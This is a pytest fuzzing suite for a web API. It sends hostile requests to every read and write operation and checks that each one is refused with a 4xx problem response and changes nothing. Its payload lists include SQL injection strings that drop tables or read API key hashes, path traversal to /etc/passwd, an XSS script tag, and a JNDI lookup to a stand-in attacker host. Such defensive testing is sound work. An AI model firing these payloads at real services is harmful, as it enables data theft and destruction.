"""Hostile input, on both databases: every refusal is a 4xx problem+json and changes nothing.

Each test sends one family of hostile requests (SQL injection and full-text-search syntax in
every string parameter of every read operation, NUL bytes, oversized bodies and headers, deeply
nested JSON, invalid UTF-8, absurd limits and years, forged cursors, malformed If-Match and
Authorization) and checks each response: a 4xx RFC 9457 problem (with ``errors`` on a 422),
never a 5xx, never a success, and, around the whole family, that ``GET /v1/export`` as an
editor and every row of every table are the same before and after.

The read operations and their parameters come from the app's own OpenAPI document, so new
endpoints and filters are attacked as they land. Violations are collected and reported all at
once, one line per request.

A bug found here is marked with ``known_bug`` (a strict xfail naming it, on the database kinds
where it shows) until it is fixed. The ones found so far (NUL bytes, unbounded headers, as_of
overflow) are fixed; their tests now pass as they are.
"""

import base64
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from api.auth.tables import Role
from tests.conftest import Database
from tests.fuzz_support import (
    RESOURCES,
    app_over,
    bearer,
    database_rows,
    export_snapshot,
    problem_violation,
    shared_database,
)

SQL_INJECTION = (
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'); DROP TABLE initiative; --",
    "1; DELETE FROM api_key",
    "' UNION SELECT key_hash, name, role FROM api_key --",
    "'; UPDATE initiative SET name = 'pwned'; --",
    "' AND (SELECT pg_sleep(2)) IS NULL --",
    "' || (SELECT sqlite_version()) || '",
    "%' OR slug LIKE '%",
    "\\'; SELECT 1; --",
    "$$; DROP TABLE source; $$",
    "*/ OR /*",
    "made-in-china-2025' --",
    "5g'/**/OR/**/'a'='a",
)
FTS_SYNTAX = (
    "NEAR(made china, 2)",
    "made* AND china",
    "OR OR OR",
    "NOT china",
    '"unclosed phrase',
    '"""',
    "^made",
    "name_zh:中国",
    "{name summary}:china",
    "china & !made | 5g <-> ai:*",
    "'",
    "\\",
    ":*",
    "((((",
    "))))",
    "*",
    "-",
    '-"china',
    "china " * 70,
)
ODD = (
    "%",
    "%00",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://attacker.example/x}",
    "\u202egnp.exe",
    "𝕮𝖍𝖎𝖓𝖆",
    "中国制造2025' OR '1'='1",
    "\ufeffmade",
    "A" * 3000,
)
HOSTILE_STRINGS = SQL_INJECTION + FTS_SYNTAX + ODD
FREE_TEXT = {"q"}  # parameters where a hostile string is just text to search for
BAD_KEY = "pt_0badc0de_" + "x" * 43
MIC = "/v1/initiatives/made-in-china-2025"
KIB = 1024


# --- the app, and what "nothing changed" means ---------------------------------------------


@dataclass
class Hostile:
    client: TestClient
    db: Database
    openapi: dict[str, Any]

    def headers(self, role: Role | None) -> dict[str, str]:
        return bearer(self.db.keys[role]) if role else {}


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def hostile_db(request: pytest.FixtureRequest, run_id: str) -> Iterator[Database]:
    """One database per kind for the module: every test here must leave it as it found it."""
    with shared_database(request, request.param, run_id) as database:
        yield database


@pytest.fixture
def hostile(hostile_db: Database) -> Iterator[Hostile]:
    with (
        app_over(hostile_db.url) as app,
        TestClient(app, raise_server_exceptions=False) as client,
    ):
        yield Hostile(client, hostile_db, app.openapi())


@contextmanager
def nothing_changes(h: Hostile) -> Iterator[None]:
    export = export_snapshot(h.client, h.db.keys[Role.editor])
    rows = database_rows(h.db.engine)
    yield
    assert export_snapshot(h.client, h.db.keys[Role.editor]) == export, "the export changed"
    after = database_rows(h.db.engine)
    changed = [name for name in rows if after.get(name) != rows[name]]
    assert not changed, f"rows changed in {changed}"


def known_bug(request: pytest.FixtureRequest, db: Database, reason: str, *kinds: str) -> None:
    """Mark this test a strict xfail on the database kinds where the bug shows."""
    if db.kind in (kinds or ("sqlite", "postgresql")):
        request.applymarker(pytest.mark.xfail(strict=True, reason=reason))


class Report:
    """Collects every request that was not refused properly."""

    def __init__(self) -> None:
        self.violations: list[str] = []
        self.requests = 0

    def refused(self, response: Any, *statuses: int) -> None:
        self.requests += 1
        problem = problem_violation(response, statuses)
        if problem:
            self.violations.append(problem)

    def check(self) -> None:
        shown = "\n".join(self.violations[:60])
        more = len(self.violations) - 60
        tail = f"\n... and {more} more" if more > 0 else ""
        assert not self.violations, (
            f"{len(self.violations)} of {self.requests} hostile requests were not refused with "
            f"a 4xx problem:\n{shown}{tail}"
        )


# --- the OpenAPI document, read for what to attack -----------------------------------------


@dataclass(frozen=True)
class Param:
    path: str
    name: str
    where: str  # "path" or "query"
    required_query: tuple[tuple[str, str], ...]  # values for the other required parameters


def _takes_text(schema: dict[str, Any]) -> bool:
    """Whether a parameter's schema takes strings (enums, arrays of strings included)."""
    if schema.get("type") == "string" or "$ref" in schema or "enum" in schema:
        return True
    if schema.get("type") == "array":
        return _takes_text(schema.get("items", {}))
    return any(_takes_text(s) for s in schema.get("anyOf", []))


def _takes_integer(schema: dict[str, Any]) -> bool:
    if schema.get("type") == "integer":
        return True
    return any(_takes_integer(s) for s in schema.get("anyOf", []))


PLAIN_VALUES = {"q": "china", "slug": "made-in-china-2025"}


def read_params(openapi: dict[str, Any], want: Any) -> list[Param]:
    """Every parameter of every GET operation under /v1 whose schema ``want`` accepts."""
    found = []
    for path, methods in openapi["paths"].items():
        operation = methods.get("get")
        if operation is None or not path.startswith("/v1/"):
            continue
        params = operation.get("parameters", [])
        for param in params:
            if param["in"] not in ("path", "query") or not want(param["schema"]):
                continue
            others = tuple(
                (p["name"], PLAIN_VALUES.get(p["name"], "x"))
                for p in params
                if p["in"] == "query" and p.get("required") and p["name"] != param["name"]
            )
            found.append(Param(path, param["name"], param["in"], others))
    return found


def _seeded_path(path: str) -> str:
    """A path template with a seeded record for {slug} of the path's resource."""
    seeded = {
        "initiatives": "made-in-china-2025",
        "sectors": "5g",
        "organizations": "caltech",
        "sources": "lse-ideas-techno-nationalism-2021",
    }
    resource = path.split("/")[2]
    return path.replace("{slug}", seeded.get(resource, "x"))


def path_segment(value: str) -> str:
    """``value`` percent-encoded for a path, so that the app's scope["path"] holds it as is.

    Encoded twice: Starlette's TestClient decodes the path once more than a server does
    (httpx hands it the decoded path and it unquotes that again), so "%2500" would reach the
    app as a NUL where uvicorn would give it "%00"."""
    return quote(quote(value, safe=""), safe="")


def send(h: Hostile, param: Param, value: str, role: Role | None) -> Any:
    """GET with ``value`` in ``param`` (percent-encoded like a client would)."""
    path = _seeded_path(param.path)
    query: list[tuple[str, str]] = list(param.required_query)
    if param.where == "path":
        path = param.path.replace("{" + param.name + "}", path_segment(value))
    else:
        query.append((param.name, value))
    return h.client.get(path, params=query, headers=h.headers(role))


def _check_read(report: Report, param: Param, response: Any) -> None:
    if param.name in FREE_TEXT and response.status_code == 200:
        body = response.json()
        report.requests += 1
        if not (isinstance(body.get("items"), list) and isinstance(body.get("total"), int)):
            report.violations.append(f"GET {response.request.url}: 200 without a list envelope")
        return
    report.refused(response)


# --- SQL injection, FTS syntax and odd strings in every read parameter ------------------------


@pytest.mark.parametrize("role", [None, Role.editor], ids=["anonymous", "editor"])
def test_injection_in_every_read_parameter(hostile: Hostile, role: Role | None) -> None:
    params = read_params(hostile.openapi, _takes_text)
    assert len(params) > 20, params  # the document lists the filters
    report = Report()
    with nothing_changes(hostile):
        for param in params:
            for value in HOSTILE_STRINGS:
                _check_read(report, param, send(hostile, param, value, role))
        report.check()


def test_injection_in_q_is_only_text(hostile: Hostile) -> None:
    """Between two words no record has, an injection must match nothing at all."""
    searchable = [p for p in read_params(hostile.openapi, _takes_text) if p.name == "q"]
    assert searchable, "no operation takes q"
    with nothing_changes(hostile):
        for param in searchable:
            for value in SQL_INJECTION + FTS_SYNTAX[:-1]:
                q = f"zzqxjw {value} zzqxjk"
                r = send(hostile, param, q, Role.editor)
                assert r.status_code in (200, 422), (param.path, q, r.status_code, r.text[:300])
                if r.status_code == 200:
                    assert r.json()["total"] == 0, (param.path, q, r.json())


# --- NUL bytes ------------------------------------------------------------------------------


def test_nul_in_query_parameters(hostile: Hostile) -> None:
    report = Report()
    with nothing_changes(hostile):
        for param in read_params(hostile.openapi, _takes_text):
            if param.where != "query":
                continue
            for value in ("\x00", "made\x00china", "5g\x00' OR '1'='1"):
                _check_read(report, param, send(hostile, param, value, Role.editor))
        report.check()


def test_nul_in_path_parameters(hostile: Hostile) -> None:
    report = Report()
    admin = hostile.headers(Role.admin)
    with nothing_changes(hostile):
        for param in read_params(hostile.openapi, _takes_text):
            if param.where == "path":
                for value in ("\x00", "made-in-china-2025\x00", "a\x00' OR '1'='1"):
                    _check_read(report, param, send(hostile, param, value, None))
        report.refused(hostile.client.post("/v1/keys/a%00b/revoke", headers=admin))
        report.check()


def _create_bodies(name: str) -> dict[str, dict[str, Any]]:
    return {
        "initiatives": {"slug": "hostile-x", "name": name, "kind": "plan", "country": "CN"},
        "sectors": {"slug": "hostile-x", "name": name, "kind": "industry"},
        "organizations": {"slug": "hostile-x", "name": name, "kind": "lab"},
        "sources": {"slug": "hostile-x", "title": name},
    }


@pytest.fixture
def fresh(database: Database) -> Iterator[Hostile]:
    """Like ``hostile``, over a database of its own: for tests whose bugs write."""
    with (
        app_over(database.url) as app,
        TestClient(app, raise_server_exceptions=False) as client,
    ):
        yield Hostile(client, database, app.openapi())


def test_nul_in_body_strings(fresh: Hostile) -> None:
    hostile = fresh  # its own database: were the bug back, it would write
    editor = hostile.headers(Role.editor)
    report = Report()
    with nothing_changes(hostile):
        for resource, body in _create_bodies("made\x00in").items():
            report.refused(hostile.client.post(f"/v1/{resource}", json=body, headers=editor), 422)
        patch = {"name": "five\x00g", "description": "\x00"}
        r = hostile.client.patch("/v1/sectors/5g", json=patch, headers={**editor, "If-Match": "*"})
        report.refused(r, 422)
        line = {"resource": "sectors", "record": _create_bodies("nul\x00")["sectors"]}
        r = hostile.client.post(
            "/v1/import",
            content=json.dumps(line).encode() + b"\n",
            headers={**editor, "Content-Type": "application/x-ndjson"},
        )
        report.refused(r, 422)
        report.check()


def test_nul_in_api_key(hostile: Hostile) -> None:
    report = Report()
    with nothing_changes(hostile):
        for key in ("pt_a\x00b_c", "pt_\x00_\x00", "\x00"):
            headers = {"Authorization": f"Bearer {key}"}
            report.refused(hostile.client.get("/v1/initiatives", headers=headers), 401)
            report.refused(hostile.client.post("/v1/sectors", json={}, headers=headers), 401)
        report.check()


# --- sizes ------------------------------------------------------------------------------------


def json_writes(openapi: dict[str, Any]) -> list[tuple[str, str]]:
    """(method, path with seeded slugs) of every operation taking a JSON body."""
    found = []
    for path, methods in openapi["paths"].items():
        for method, operation in methods.items():
            content = operation.get("requestBody", {}).get("content", {})
            if "application/json" in content:
                found.append((method.upper(), _seeded_path(path)))
    return found


def _write(h: Hostile, method: str, path: str, role: Role = Role.admin, **kwargs: Any) -> Any:
    headers = {**h.headers(role), "If-Match": "*", **kwargs.pop("headers", {})}
    return h.client.request(method, path, headers=headers, **kwargs)


def test_oversized_bodies(hostile: Hostile) -> None:
    limit = 1024 * KIB
    big = b'{"slug": "big-one", "name": "' + b"a" * limit + b'"}'
    json_type = {"Content-Type": "application/json"}
    report = Report()
    writes = json_writes(hostile.openapi)
    assert len(writes) >= 9, writes
    with nothing_changes(hostile):
        for method, path in writes:
            report.refused(_write(hostile, method, path, content=big, headers=json_type), 413)
            chunks = iter([big[: len(big) // 2], big[len(big) // 2 :]])  # no Content-Length
            report.refused(_write(hostile, method, path, content=chunks, headers=json_type), 413)
            lying = {**json_type, "Content-Length": str(2 * limit)}
            report.refused(_write(hostile, method, path, content=b"{}", headers=lying), 413)
        report.check()


def test_oversized_import(hostile_db: Database) -> None:
    """The import has its own limit (a GiB by default); over it is a 413 and nothing lands."""
    from fastapi import FastAPI

    from api.main import create_app
    from tests.fuzz_support import fuzz_settings

    settings = fuzz_settings(hostile_db.url).model_copy(update={"import_max_bytes": 64 * KIB})
    app: FastAPI = create_app(settings)
    try:
        with TestClient(app, raise_server_exceptions=False) as client:
            h = Hostile(client, hostile_db, app.openapi())
            line = {"resource": "sectors", "record": _create_bodies("Big")["sectors"]}
            body = (json.dumps(line) + "\n").encode() * (64 * KIB // 80 + 10)
            headers = {**h.headers(Role.editor), "Content-Type": "application/x-ndjson"}
            with nothing_changes(h):
                report = Report()
                report.refused(client.post("/v1/import", content=body, headers=headers), 413)
                chunks = iter([body[:40_000], body[40_000:]])
                report.refused(client.post("/v1/import", content=chunks, headers=headers), 413)
                report.check()
    finally:
        app.state.engine.dispose()


def test_oversized_credentials(hostile: Hostile) -> None:
    """Huge values in the headers the app reads: refused like any bad value."""
    editor = hostile.headers(Role.editor)
    report = Report()
    with nothing_changes(hostile):
        huge_key = {"Authorization": "Bearer pt_" + "a" * (64 * KIB)}
        # Headers over the limit are refused (431) before anything reads them.
        report.refused(hostile.client.get("/v1/initiatives", headers=huge_key), 431)
        report.refused(hostile.client.post("/v1/sectors", json={}, headers=huge_key), 431)
        for tag in ("x" * KIB * KIB, '"99999999999999999999",' * 40_000, "W/" * 100_000):
            r = hostile.client.patch(
                "/v1/sectors/5g", json={"name": "Huge"}, headers={**editor, "If-Match": tag}
            )
            report.refused(r, 431 if len(tag) > 32 * KIB else 412)
        huge_type = {**editor, "Content-Type": "application/json;" + "a=b;" * 50_000}
        report.refused(hostile.client.post("/v1/sectors", content=b"{}", headers=huge_type))
        report.check()


def test_oversized_headers(hostile: Hostile) -> None:
    report = Report()
    with nothing_changes(hostile):
        report.refused(hostile.client.get("/v1/initiatives", headers={"X-Pad": "a" * KIB * KIB}))
        many = [(f"x-pad-{i}", "a") for i in range(10_000)]
        report.refused(hostile.client.get("/v1/initiatives", headers=many))
        report.check()


# --- malformed bodies ----------------------------------------------------------------------


def test_deeply_nested_json(hostile: Hostile) -> None:
    deep_array = b"[" * 200_000 + b"]" * 200_000
    deep_object = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    nested_field = json.dumps(
        {"slug": "deep-one", "name": "Deep", "kind": "plan", "country": "CN"}
        | {"aliases": json.loads("[" * 900 + "]" * 900)}
    ).encode()
    json_type = {"Content-Type": "application/json"}
    report = Report()
    with nothing_changes(hostile):
        for method, path in json_writes(hostile.openapi):
            for body in (deep_array, deep_object):
                report.refused(_write(hostile, method, path, content=body, headers=json_type))
        r = _write(hostile, "POST", "/v1/initiatives", content=nested_field, headers=json_type)
        report.refused(r, 422)
        ndjson = {"Content-Type": "application/x-ndjson"}
        for body in (deep_array, deep_object):
            r = _write(hostile, "POST", "/v1/import", Role.editor, content=body, headers=ndjson)
            report.refused(r)
        report.check()


def test_invalid_utf8(hostile: Hostile) -> None:
    bodies = (
        b'{"slug": "bad-utf8", "name": "\xff\xfe"}',
        b'{"slug": "bad-utf8", "name": "\xc3\x28"}',
        b'{"slug": "bad-utf8", "name": "\xed\xa0\x80"}',  # an encoded surrogate
        b"\xef\xbb\xbf\xff",
    )
    json_type = {"Content-Type": "application/json"}
    report = Report()
    with nothing_changes(hostile):
        for method, path in json_writes(hostile.openapi):
            for body in bodies:
                report.refused(_write(hostile, method, path, content=body, headers=json_type))
        ndjson = {"Content-Type": "application/x-ndjson"}
        line = b'{"resource": "sectors", "record": {"slug": "bad-utf8", "name": "\xff"}}\n'
        r = _write(hostile, "POST", "/v1/import", Role.editor, content=line, headers=ndjson)
        report.refused(r, 422)
        for url in (
            "/v1/initiatives?q=%FF%FE",
            "/v1/initiatives?sector=%C3%28",
            "/v1/initiatives?sort=%ED%A0%80",
            "/v1/initiatives?cursor=%FF",
            "/v1/initiatives/%FF",
            "/v1/sectors/%C3%28/history",
            "/v1/export?resource=%FF",
        ):
            report.refused(hostile.client.get(url, headers=hostile.headers(Role.editor)))
        report.check()


# --- numbers --------------------------------------------------------------------------------

ABSURD_INTEGERS = (
    "-1",
    "0",
    "-9223372036854775809",
    "9223372036854775808",
    "1" + "0" * 40,
    "1e309",
    "NaN",
    "Infinity",
    "0x10",
    "2015.5",
    "20 OR 1=1",
    "",
)


def test_huge_limits(hostile: Hostile) -> None:
    params = [p for p in read_params(hostile.openapi, _takes_integer) if p.name == "limit"]
    assert len(params) >= 9, params
    report = Report()
    with nothing_changes(hostile):
        for param in params:
            for value in (*ABSURD_INTEGERS, "201", "1000000"):
                report.refused(send(hostile, param, value, Role.editor), 422)
        report.check()


def test_absurd_years(hostile: Hostile) -> None:
    params = [p for p in read_params(hostile.openapi, _takes_integer) if p.name != "limit"]
    assert {p.name for p in params} >= {"active_in", "start_year_min", "start_year_max"}
    editor = hostile.headers(Role.editor)
    report = Report()
    with nothing_changes(hostile):
        for param in params:
            for value in (*ABSURD_INTEGERS, "1899", "2101", "-2015"):
                report.refused(send(hostile, param, value, Role.editor), 422)
        absurd: tuple[Any, ...] = (-1, 0, -(10**40), 10**40, 2015.5, 1e300, -2015)
        for year in (*absurd, 1899, 2101):  # initiatives: 1900..2100
            for field in ("start_year", "end_year"):
                body = _create_bodies("Years")["initiatives"] | {field: year}
                r = hostile.client.post("/v1/initiatives", json=body, headers=editor)
                report.refused(r, 422)
                report.refused(_write(hostile, "PATCH", MIC, json={field: year}), 422)
        for year in (*absurd, 999, 2101):  # organizations: founded 1000..2100
            body = _create_bodies("Years")["organizations"] | {"founded_year": year}
            report.refused(hostile.client.post("/v1/organizations", json=body, headers=editor), 422)
        reversed_years = {"start_year": 2020, "end_year": 2010}
        r = _write(hostile, "PATCH", MIC, json=reversed_years)
        report.refused(r, 422)
        for day in ("0000-01-01", "10000-01-01", "-2020-01-01", "2020-13-45", "2020-02-30"):
            body = _create_bodies("Days")["sources"] | {"published_on": day}
            report.refused(hostile.client.post("/v1/sources", json=body, headers=editor), 422)
        for moment in ("0000-01-01T00:00:00Z", "2020-13-45T00:00:00Z", "yesterday", "-1e400"):
            r = hostile.client.get("/v1/initiatives/made-in-china-2025", params={"as_of": moment})
            report.refused(r, 422)
        report.check()


def test_as_of_at_the_edges_of_time(hostile: Hostile) -> None:
    report = Report()
    with nothing_changes(hostile):
        for moment in ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"):
            for resource, slug in (("initiatives", "made-in-china-2025"), ("sectors", "5g")):
                r = hostile.client.get(f"/v1/{resource}/{slug}", params={"as_of": moment})
                report.refused(r, 404, 422)
        report.check()


# --- forged cursors -------------------------------------------------------------------------


def _cursor(data: Any) -> str:
    raw = data if isinstance(data, bytes) else json.dumps(data).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


FORGED_CURSORS = (
    "abc",
    "!!!!",
    "====",
    "eyJ",
    "%",
    "\u00e9t\u00e9",
    "A" * 2000,
    _cursor(b"not json"),
    _cursor(b"\xff\xfe"),
    _cursor([]),
    _cursor("slug"),
    _cursor({}),
    _cursor({"s": "slug"}),
    _cursor({"s": "slug", "v": "made-in-china-2025"}),
    _cursor({"s": "slug", "v": []}),
    _cursor({"s": "slug", "v": ["a", "b", "c"]}),
    _cursor({"s": "slug", "v": [None]}),
    _cursor({"s": "slug", "v": [1]}),
    _cursor({"s": "slug", "v": [{"$gt": ""}]}),
    _cursor({"s": "slug", "v": ["' OR '1'='1"], "x": 1} | {"s": "-slug; DROP TABLE x"}),
    _cursor({"s": "slug", "v": ["z" * 1500]}),
    _cursor({"s": "start_year,slug", "v": [2**63, "a"]}),
    _cursor({"s": "start_year,slug", "v": [-(2**63) - 1, "a"]}),
    _cursor({"s": "start_year,slug", "v": [10**40, "a"]}),
    _cursor({"s": "start_year,slug", "v": [True, "a"]}),
    _cursor({"s": "start_year,slug", "v": ["2015", "a"]}),
    _cursor({"s": "start_year,slug", "v": [2015.5, "a"]}),
    _cursor({"s": "created_at,slug", "v": ["2020-13-45T00:00:00", "a"]}),
    _cursor({"s": "created_at,slug", "v": [0, "a"]}),
    _cursor({"s": "created_at,slug", "v": ["0001-01-01T00:00:00+14:00", "a"]}),
    _cursor({"s": "slug", "v": ["a\x00b"]}),
    _cursor({"v": [1], "s": "id"}),
)


def test_forged_cursors(hostile: Hostile) -> None:
    params = [p for p in read_params(hostile.openapi, _takes_text) if p.name == "cursor"]
    assert len(params) >= 9, params
    report = Report()
    with nothing_changes(hostile):
        for param in params:
            for cursor in FORGED_CURSORS:
                for role in (None, Role.editor):
                    report.refused(send(hostile, param, cursor, role), 400, 422)
        report.check()


# --- malformed preconditions and credentials -----------------------------------------------

MALFORMED_IF_MATCH = (
    " ",
    "junk",
    '"',
    '""',
    "W/",
    'W/""',
    '"-1"',
    '"0x1"',
    '"1.0"',
    '" 1"',
    '"1 "',
    '"+1"',
    '"99999999999999999999"',
    '"abc-2", "def-3"',
    "'1'",
    '"1\\"',
    ",,,,",
    '"' + "9" * 5000 + '"',
)


def test_malformed_if_match(hostile: Hostile) -> None:
    editor = hostile.headers(Role.editor)
    report = Report()
    with nothing_changes(hostile):
        for resource in RESOURCES:
            slug = _seeded_path(f"/v1/{resource}/{{slug}}")
            for tag in MALFORMED_IF_MATCH:
                headers = {**editor, "If-Match": tag}
                patch = {"title": "Changed"} if resource == "sources" else {"name": "Changed"}
                report.refused(hostile.client.patch(slug, json=patch, headers=headers), 412)
                report.refused(hostile.client.delete(slug, headers=headers), 412)
                for action in ("retract", "publish"):
                    report.refused(hostile.client.post(f"{slug}/{action}", headers=headers), 412)
            report.refused(hostile.client.patch(slug, json={}, headers=editor), 428)
            report.refused(hostile.client.delete(slug, headers={**editor, "If-Match": ""}), 428)
        report.check()


def test_malformed_authorization(hostile: Hostile) -> None:
    key = hostile.db.keys[Role.editor]
    prefix = key.split("_")[1]
    values = (
        "Bearer",
        "Bearer ",
        "Bearer    ",
        "Basic ZWRpdG9yOnNlY3JldA==",
        "Digest username=x",
        "Token " + key,
        "Bearer pt_",
        "Bearer pt__",
        "Bearer pt_x_",
        "Bearer " + key[:-1],
        "Bearer " + key + "x",
        "Bearer " + key.upper(),
        "Bearer " + key + " extra",
        "Bearer " + key.replace("pt_", "pk_"),
        f"Bearer pt_{prefix}_",
        f"Bearer pt_{prefix}_' OR '1'='1",
        "Bearer pt_' OR '1'='1_x",
        "Bearer pt_%_x",
        "Bearer pt_*_x",
        "Bearer " + BAD_KEY,
        "Bearer " + "A" * 5000,
        key,
        "Bearer\t" + key + "\t",
    )
    operations = []
    for path, methods in hostile.openapi["paths"].items():
        for method, operation in methods.items():
            secured = any("bearerAuth" in s for s in operation.get("security", []))
            if secured and path.startswith("/v1/"):
                operations.append((method.upper(), _seeded_path(path).replace("{name}", "x")))
    assert len(operations) > 30, operations
    report = Report()
    with nothing_changes(hostile):
        for method, path in operations:
            for value in values:
                headers = {"Authorization": value, "If-Match": "*"}
                r = hostile.client.request(method, path, headers=headers, json={})
                report.refused(r, 401)
                if r.status_code == 401 and "www-authenticate" not in r.headers:
                    report.violations.append(f"{method} {path}: 401 without WWW-Authenticate")
        report.check()
